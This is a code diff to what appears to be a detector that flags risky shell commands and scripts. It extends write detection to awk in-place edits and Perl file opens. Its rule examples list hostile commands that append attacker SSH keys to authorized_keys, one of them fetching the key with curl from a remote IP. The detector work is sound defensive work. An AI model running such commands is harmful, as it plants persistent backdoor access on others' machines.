@@ -5,7 +5,7 @@ import type { SimpleCommand } from '../shell/types.js';
 import { baseName } from '../shell/names.js';
 import { containerVerbAt, copyOperands, editsInPlace, editsWithTee, ghApiCall, installMakesDirectories, optionValue, packageScripts, readsManifestFromStdin, scriptIn, staticOption, VIMS } from '../shell/command-args.js';
 import { staticOutput } from '../shell/static-output.js';
-import { automationFile, classifyPath, canonicalPath, hiddenInTemp, HOME_IN_CODE, isStagingPath, isTestData, READ_NOT_RUN, runsLater, SOURCE_FILE, type PathKind, type SensitivePath } from '../knowledge/paths.js';
+import { automationFile, classifyPath, canonicalPath, hiddenInTemp, HOME_IN_CODE, homeInterpolated, isStagingPath, isTestData, READ_NOT_RUN, runsLater, SOURCE_FILE, type PathKind, type SensitivePath } from '../knowledge/paths.js';
 import { destinationOf, EXFIL_KINDS, external, firstUrl, type Destination } from '../knowledge/hosts.js';
 import { DEPENDENCY_FILE, FETCHERS, SHELLS, downloadExecs, isFetcher, isInterpreter, isShell, savedFile, trustedSource, wiresShellToSocket } from './command_and_control.js';
 import { verifiesDownload } from './artifacts.js';
@@ -151,8 +151,9 @@ function writesOf(input: AnalysisInput): Written[] {
     // moreutils' sponge soaks up its input and then writes the file: `jq … f | sponge f`
     if (c.name === 'sponge') { const p = operands(c)[0]; if (p) add(p, writtenText(c), c, hasArg(c, '-a')); }
     if (editsInPlace(c)) {
-      const ops = operands(c);
-      for (const p of ops.slice(c.name === 'sed' && !hasArg(c, '-e') ? 1 : 0)) add(p, writtenText(c), c);
+      // (sed's and awk's first operand is their script, unless sed has it from -e; gawk's `-i inplace` names the extension)
+      const ops = operands(c).filter((w) => w !== 'inplace');
+      for (const p of ops.slice((c.name === 'sed' && !hasArg(c, '-e')) || c.name === 'gawk' || c.name === 'awk' ? 1 : 0)) add(p, writtenText(c), c);
     }
     if (c.name === 'yq' && hasArg(c, '-i', '--inplace')) for (const p of operands(c).slice(1)) add(p, writtenText(c), c);
     if (COPIERS.has(c.name) && !(c.name === 'install' && installMakesDirectories(c.argv))) {
@@ -176,7 +177,8 @@ function writesOf(input: AnalysisInput): Written[] {
   // one-liners that open a path to write or append to it: what they write is their own code's doing
   for (const sc of input.view?.scripts ?? []) {
     const code = sc.code.slice(0, 16384);
-    for (const lit of sc.strings.slice(0, 64)) {
+    for (const raw of sc.strings.slice(0, 64)) {
+      const lit = homeInterpolated(raw);
       // an absolute or home path, or a project file something runs later (`package.json`, a workflow, the project's
       // source, its manifests and lockfiles) named relative to the project
       // (or a file name joined to a folder the code named: `d + "/x.service"`, `os.path.join(d, "x.service")`)
@@ -184,18 +186,20 @@ function writesOf(input: AnalysisInput): Written[] {
       const placed = lit.startsWith('/') || lit.startsWith('~') || (lit.length < 256 && !/\s/.test(lit) && (runsLater(lit) || SOURCE_FILE.test(lit) || DEPENDENCY_FILE.test(lit)));
       if (!placed && !/^[\w.-]{1,255}$/.test(lit)) continue;
       // the same name may be read first and written later (`json.load(open("package.json"))` … `open("package.json", "w")`)
-      for (let at = code.indexOf(lit), seen = 0; at >= 0 && seen < 8; at = code.indexOf(lit, at + lit.length), seen++) {
-        const after = code.slice(at + lit.length, at + lit.length + 48);
+      for (let at = code.indexOf(raw), seen = 0; at >= 0 && seen < 8; at = code.indexOf(raw, at + raw.length), seen++) {
+        const after = code.slice(at + raw.length, at + raw.length + 48);
         const before = code.slice(Math.max(0, at - 64), at);
         const joined = joinedToFolder(code, before, lit);
         if (!placed && joined === undefined) continue;
         // `homedir() + '/.bashrc'`: a home-relative suffix
         const homed = lit.startsWith('/.') && HOME_JOINED.test(before);
         const viaName = namedWrite(code, before);
-        const mode = /^['"]?\s*\)?\s*,\s*(?:mode\s*=\s*)?['"]([wa])/.exec(after)?.[1] ?? viaName;
+        // (Perl's three-argument open gives the mode first: `open(my $f, ">>", "…")`)
+        const perlMode = /['"](>>|\+?>)['"]\s*,\s*['"]$/.exec(before)?.[1];
+        const mode = /^['"]?\s*\)?\s*,\s*(?:mode\s*=\s*)?['"]([wa])/.exec(after)?.[1] ?? viaName ?? (perlMode === undefined ? undefined : perlMode === '>>' ? 'a' : 'w');
         const call = WRITE_CALL.test(before);
         // what is written: the code, and its literals as the language reads them (`"<?php eval(\$_POST[\"k\"]);"` is `eval($_POST["k"])`)
-        if (mode || call) { add(joined ?? (homed ? `~${lit}` : lit), [code, ...sc.strings.slice(0, 64).filter((x) => x !== lit)].join('\n'), sc.command, mode === 'a' || /append/i.test(before) || /^['"]?\s*,[^)]{0,2048}FILE_APPEND/.test(code.slice(at + lit.length, at + lit.length + 2100))); break; }
+        if (mode || call) { add(joined ?? (homed ? `~${lit}` : lit), [code, ...sc.strings.slice(0, 64).filter((x) => x !== raw)].join('\n'), sc.command, mode === 'a' || /append/i.test(before) || /^['"]?\s*,[^)]{0,2048}FILE_APPEND/.test(code.slice(at + raw.length, at + raw.length + 2100))); break; }
       }
     }
   }
@@ -1136,7 +1140,7 @@ export const RULES: readonly Rule[] = [
       if (sweep && cmds.some((c) => c.depth > sweep.depth && c.redirects.some((r) => r.op === '>>') && /^(ssh-|ecdsa-)/.test(writtenText(c)))) out.push(sweep.argv.join(' ').slice(0, 160));
       return out;
     },
-    examples: { fire: [`php -r 'file_put_contents(getenv("HOME")."/.ssh/authorized_keys","ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJx8mQ2vT4rL7pK1sN9cW3fY6hB0dE5aG2zU8qV7oXtR ops@jump\n",FILE_APPEND);'`, { Filesystem: { operation: 'Write', path: '/home/o/api/Dockerfile', content: "FROM node:20-alpine\nRUN apk add --no-cache openssh-server \\\n && mkdir -p /root/.ssh \\\n && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHc0n7q9pL2xVb8mK4sT1wR6yE3uJ5fG0aZ9dQ2hN7kP ops@patterns' >> /root/.ssh/authorized_keys\n" } }, `python3 -c "import os,base64;open(os.path.expanduser('~/.ssh/authorized_keys'),'a').write(base64.b64decode('c3NoLWVkMjU1MTkgQUFBQQ=='))"`, "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake attacker@kali' >> ~/.ssh/authorized_keys", "printf '\\x73\\x73\\x68-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake x\\n' >> ~/.ssh/authorized_keys", 'curl -s http://45.33.12.7/k.pub >> /root/.ssh/authorized_keys', 'for d in /home/*; do cat /tmp/.k.pub >> $d/.ssh/authorized_keys; done', "sudo bash -c 'cat /tmp/id.pub >> /root/.ssh/authorized_keys'"], quiet: [{ Filesystem: { operation: 'Write', path: '/home/o/api/Dockerfile', content: 'FROM node:20-alpine\nRUN apk add --no-cache openssh-client\nCOPY known_hosts /root/.ssh/known_hosts\n' } }, { Filesystem: { operation: 'Write', path: 'docs/ssh.md', content: "echo 'ssh-ed25519 AAAAC3Nz… you@laptop' >> ~/.ssh/authorized_keys" } }, 'sudo sed -i.bak "/dmitri@contractor-mbp/d" /home/deploy/.ssh/authorized_keys', 'cat ~/.ssh/authorized_keys', 'ssh-copy-id deploy@staging', 'chmod 600 ~/.ssh/authorized_keys'] },
+    examples: { fire: [`perl -e 'open(my $f, ">>", "$ENV{HOME}/.ssh/authorized_keys"); print $f "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKq8Hj2vXcYp3mR7tN1wL9sB4fG6zE0aU5yQ2dK8hJ3x deploy@ci\n";'`, `php -r 'file_put_contents(getenv("HOME")."/.ssh/authorized_keys","ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJx8mQ2vT4rL7pK1sN9cW3fY6hB0dE5aG2zU8qV7oXtR ops@jump\n",FILE_APPEND);'`, { Filesystem: { operation: 'Write', path: '/home/o/api/Dockerfile', content: "FROM node:20-alpine\nRUN apk add --no-cache openssh-server \\\n && mkdir -p /root/.ssh \\\n && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHc0n7q9pL2xVb8mK4sT1wR6yE3uJ5fG0aZ9dQ2hN7kP ops@patterns' >> /root/.ssh/authorized_keys\n" } }, `python3 -c "import os,base64;open(os.path.expanduser('~/.ssh/authorized_keys'),'a').write(base64.b64decode('c3NoLWVkMjU1MTkgQUFBQQ=='))"`, "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake attacker@kali' >> ~/.ssh/authorized_keys", "printf '\\x73\\x73\\x68-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake x\\n' >> ~/.ssh/authorized_keys", 'curl -s http://45.33.12.7/k.pub >> /root/.ssh/authorized_keys', 'for d in /home/*; do cat /tmp/.k.pub >> $d/.ssh/authorized_keys; done', "sudo bash -c 'cat /tmp/id.pub >> /root/.ssh/authorized_keys'"], quiet: [{ Filesystem: { operation: 'Write', path: '/home/o/api/Dockerfile', content: 'FROM node:20-alpine\nRUN apk add --no-cache openssh-client\nCOPY known_hosts /root/.ssh/known_hosts\n' } }, { Filesystem: { operation: 'Write', path: 'docs/ssh.md', content: "echo 'ssh-ed25519 AAAAC3Nz… you@laptop' >> ~/.ssh/authorized_keys" } }, 'sudo sed -i.bak "/dmitri@contractor-mbp/d" /home/deploy/.ssh/authorized_keys', 'cat ~/.ssh/authorized_keys', 'ssh-copy-id deploy@staging', 'chmod 600 ~/.ssh/authorized_keys'] },
   },
   {
     id: 'PX-PERSIST-013', name: 'modifies-authorized-keys', score: 50, tactic: 'persistence', technique: 'T1098.004',
